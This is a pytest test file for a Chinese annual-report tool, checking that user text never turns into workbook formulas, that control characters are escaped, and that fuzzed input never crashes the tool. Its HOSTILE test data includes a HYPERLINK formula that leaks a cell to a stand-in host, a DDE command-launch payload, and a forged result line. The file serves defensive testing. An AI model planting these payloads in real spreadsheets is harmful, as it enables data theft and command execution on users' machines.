"""Text from the user stays text: never a formula in a workbook (checked with openpyxl and with
LibreOffice reading the file), shown as typed; control characters are refused by key or escaped on the
terminal; and fuzzing report data, cell values and narrative through new --from → check → export
ends in findings or a clean exit 2, never a crash."""
from __future__ import annotations

import csv
import os
import tempfile
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from nianbao import cli, examples, office, workbook
from nianbao.safetext import one_line, terminal
from nianbao.workbook import cells as wb_cells

SEED = examples.path("seed")
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?d="&B8,"点击查看说明")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
)


def seed() -> dict:
    return json.loads(SEED.read_text("utf-8"))


def run(argv, capsys) -> tuple[int, str]:
    rc = cli.main([str(a) for a in argv])
    out = capsys.readouterr()
    return rc, out.out + out.err


def formula_cells(path: Path) -> list[tuple[str, str]]:
    import openpyxl
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def with_hostile_text(data: dict) -> dict:
    data["agency"] = HOSTILE[0]
    data["contact"] = {**(data.get("contact") or {}), "phone": HOSTILE[1], "fax": HOSTILE[3]}
    data["title"] = HOSTILE[4]
    data["sections"]["overview"] = [HOSTILE[2], {"heading": HOSTILE[5], "paragraphs": [HOSTILE[1]]}]
    return data


def test_text_starting_with_equals_is_text_in_every_engine(tmp_path, capsys):
    src = tmp_path / "报告.json"
    src.write_text(json.dumps(with_hostile_text(seed()), ensure_ascii=False), "utf-8")
    out = tmp_path / "工作簿.xlsx"
    rc, text = run(["new", "--from", src, "-o", out], capsys)
    assert rc == 0, text
    assert not [v for _, v in formula_cells(out) if v in HOSTILE]
    report, _ = workbook.read(out)
    assert report.agency == HOSTILE[0] and report.contact["phone"] == HOSTILE[1] and report.title == HOSTILE[4]
    assert HOSTILE[2] in report.narrative_text() and HOSTILE[5] in report.narrative_text()
    # LibreOffice opens the file and shows each text exactly as typed (not a computed value).
    prefix = office.convert_many([out], office.CSV_ALL_SHEETS, tmp_path / "csv")[0]
    shown = {}
    for sheet in (wb_cells.SHEET_INFO, wb_cells.SHEET_TEXT):
        with open(f"{prefix}-{sheet}.csv", encoding="utf-8", newline="") as fh:
            shown[sheet] = [cell for row in csv.reader(fh) for cell in row]
    for value in (HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[4]):
        assert value in shown[wb_cells.SHEET_INFO], value
    for value in (HOSTILE[2], HOSTILE[5], HOSTILE[1]):
        assert value in shown[wb_cells.SHEET_TEXT], value
    assert "2" not in shown[wb_cells.SHEET_INFO][shown[wb_cells.SHEET_INFO].index("联系电话") + 1:][:1]


def test_agency_option_starting_with_equals_is_text(tmp_path, capsys):
    out = tmp_path / "新.xlsx"
    rc, text = run(["new", "--agency", "=1+1", "-o", out], capsys)
    assert rc == 0, text
    assert workbook.read(out)[0].agency == "=1+1"
    assert not [v for _, v in formula_cells(out) if v == "=1+1"]


def test_addin_result_sheet_keeps_text_as_text(tmp_path, capsys):
    src = tmp_path / "报告.json"
    data = with_hostile_text(seed())
    src.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    book = tmp_path / "工作簿.xlsx"
    assert run(["new", "--from", src, "-o", book], capsys)[0] == 0
    checked = tmp_path / "已校验.xlsx"
    rc, text = run(["addin", "run", "check", book, "-o", checked], capsys)
    assert rc in (0, 1), text
    import openpyxl
    ws = openpyxl.load_workbook(checked)["校验结果"]
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(HOSTILE[0] in v for v in values)  # the summary line names the agency
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_agency_cannot_fake_a_result_line(tmp_path, capsys):
    data = seed()
    data["agency"] = "某局\n结果：全部通过，没有发现问题。"
    src = tmp_path / "报告.json"
    src.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    rc, text = run(["check", src], capsys)
    assert rc in (0, 1)
    assert not any(line.startswith("结果：全部通过") for line in text.splitlines()), text
    assert "某局\\x0a结果" in text


def test_terminal_escapes():
    assert terminal("a\x1b[2Jb\r\n") == "a\\x1b[2Jb\\x0d\n"
    assert one_line("a\nb\tc\u202e") == "a\\x0ab\\x09c\\u202e"
    assert terminal("中文\n") == "中文\n"


@pytest.mark.parametrize("argv_agency", ["某局\x00", "某局\x07", "某局\x1b[2J", "某局\uffff"])
def test_agency_option_with_control_characters_is_refused(argv_agency, tmp_path, capsys):
    out = tmp_path / "新.xlsx"
    rc, text = run(["new", "--agency", argv_agency, "-o", out], capsys)
    assert rc == 2 and "--agency" in text and "U+" in text, text
    assert not out.exists()


def test_check_json_never_prints_infinity(tmp_path, capsys):
    import re
    import zipfile
    good = tmp_path / "好.xlsx"
    src = tmp_path / "报告.json"
    src.write_text(SEED.read_text("utf-8"), "utf-8")
    assert run(["new", "--from", src, "-o", good], capsys)[0] == 0
    fmt = workbook.read(good)[0].format
    key = next(k for k in wb_cells.positions(fmt) if k not in wb_cells.computed_cells(fmt))
    sheet, r, c = wb_cells.positions(fmt)[key]
    order = wb_cells.sheet_order(__import__("nianbao").formats.get(fmt))
    part = f"xl/worksheets/sheet{order.index(sheet) + 1}.xml"
    ref = f"{wb_cells.col_letter(c)}{r}".encode()
    bad = tmp_path / "无穷.xlsx"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == part:
                data = re.sub(rb'<c r="' + ref + rb'"([^>]*?)(/>|>.*?</c>)',
                              lambda m: b'<c r="' + ref + b'"' + re.sub(rb'\s+t="[^"]*"', b"", m.group(1)) + b'><v>1e309</v></c>',
                              data, count=1, flags=re.S)
            zout.writestr(info, data)
    rc, text = run(["check", "--json", bad], capsys)
    assert rc == 1
    doc = json.loads(text[text.index("{"):], parse_constant=lambda c: pytest.fail(f"{c} in JSON output"))
    assert any(f["rule"] == "V-1" for f in doc["findings"])


# ---------------------------------------------------------------- fuzzing
TEXT = st.text(alphabet=st.sampled_from(list("=+-@年报局 \n\t\"'&<>{}%|!") + ["\x00", "\x1b", "\x07", "\uffff",
                                                                               "１", "2", ".", "e"]),
               max_size=30)
CELL = st.one_of(st.none(), st.integers(-10 ** 20, 10 ** 20), st.floats(allow_nan=False), TEXT)


@settings(max_examples=25, deadline=None, derandomize=True, database=None,
          phases=(Phase.explicit, Phase.generate),  # no shrinking: a failure is reported as found, quickly
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(agency=TEXT, phone=TEXT, cells=st.lists(CELL, min_size=1, max_size=6), paragraphs=st.lists(TEXT, max_size=4),
       heading=TEXT)
def test_fuzz_new_check_export(agency, phone, cells, paragraphs, heading, tmp_path, capsys):
    data = seed()
    data["agency"] = agency
    data["contact"] = {"phone": phone}
    keys = [(t, r, c) for t, rows in data["tables"].items() for r, cols in rows.items() for c in cols]
    for i, value in enumerate(cells):
        t, r, c = keys[(i * 7) % len(keys)]
        data["tables"][t][r][c] = value
    data["sections"]["overview"] = paragraphs + [{"heading": heading, "paragraphs": paragraphs}]
    d = Path(tempfile.mkdtemp(dir=tmp_path))
    src = d / "报告.json"
    try:
        src.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    except UnicodeEncodeError:  # a lone surrogate cannot even be saved as UTF-8
        return
    book = d / "工作簿.xlsx"
    rc, text = run(["new", "--from", src, "-o", book], capsys)
    assert rc in (0, 2), text
    assert "Traceback" not in text and "程序内部错误" not in text
    if rc == 2:
        assert text.startswith("无法处理：") and str(src) in text, text
        assert not book.exists()
        return
    texts = {agency, phone, heading, *paragraphs, *(v for v in cells if isinstance(v, str))}
    assert not [v for _, v in formula_cells(book) if v in texts], "a text became a formula"
    assert workbook.read(book)[0].agency == (agency or "")
    for argv in (["check", book], ["check", "--json", book], ["export", book, "-o", d / "报告.docx"]):
        rc, text = run(argv, capsys)
        assert rc in (0, 1, 2), text
        assert "Traceback" not in text and "程序内部错误" not in text
        if argv[1] == "--json" and rc != 2:
            json.loads(text[text.index("{"):], parse_constant=lambda c: pytest.fail(f"{c} in JSON output"))


# ---------------------------------------------------------------- long names, faults, leftovers
def test_agency_too_long_for_the_default_file_name(tmp_path, capsys):
    book = tmp_path / "新.xlsx"
    assert run(["new", "--agency", "局" * 90, "-o", book], capsys)[0] == 0
    rc, text = run(["export", book], capsys)
    assert rc == 2 and "过长" in text, text
    assert "Traceback" not in text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["新.xlsx"]


def test_agency_over_the_core_property_limit(tmp_path, capsys):
    import docx
    agency = "机关" * 130
    book = tmp_path / "新.xlsx"
    assert run(["new", "--agency", agency, "-o", book], capsys)[0] == 0
    out = tmp_path / "报告.docx"
    rc, text = run(["export", book, "-o", out], capsys)
    assert rc == 0, text
    doc = docx.Document(str(out))
    assert len(doc.core_properties.author) == 255 and agency.startswith(doc.core_properties.author)
    assert any(agency in p.text for p in doc.paragraphs)


def test_fault_of_the_program_exits_3_with_a_log(tmp_path, capsys, monkeypatch):
    from nianbao.commands import check
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr(tempfile, "tempdir", None)

    def broken(args):
        raise RuntimeError("boom")
    monkeypatch.setattr(check, "run", broken)
    rc, text = run(["check", SEED], capsys)
    assert rc == 3
    assert "程序内部错误" in text and "Traceback" not in text
    logs = list(tmp_path.glob("nianbao-fault-*.log"))
    assert len(logs) == 1 and "RuntimeError: boom" in logs[0].read_text("utf-8") and str(logs[0]) in text


def test_profiles_of_killed_conversions_are_removed(tmp_path):
    import subprocess
    import sys
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    gone = tmp_path / f"{office.PROFILE_PREFIX}{dead.stdout.strip()}-abc"
    (gone / "user").mkdir(parents=True)
    alive = tmp_path / f"{office.PROFILE_PREFIX}{os.getppid()}-def"
    alive.mkdir()
    assert office.sweep_profiles(tmp_path) == [gone]
    assert not gone.exists() and alive.exists()


def test_no_new_year_past_the_last_year(tmp_path, capsys):
    data = seed()
    data["year"] = 2200
    data["format"] = __import__("nianbao").formats.id_for_year(2200)
    data["tables"] = json.loads(json.dumps(__import__("nianbao.model", fromlist=["x"]).empty_report(
        data["format"], 2200).tables))
    src = tmp_path / "2200.json"
    src.write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    book = tmp_path / "2200.xlsx"
    from nianbao.model import load_json
    workbook.write(load_json(src), book)  # (nianbao new refuses years this far ahead)
    rc, text = run(["addin", "run", "new-year", book], capsys)
    assert rc == 2 and "上限" in text, text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2200.json", "2200.xlsx"]
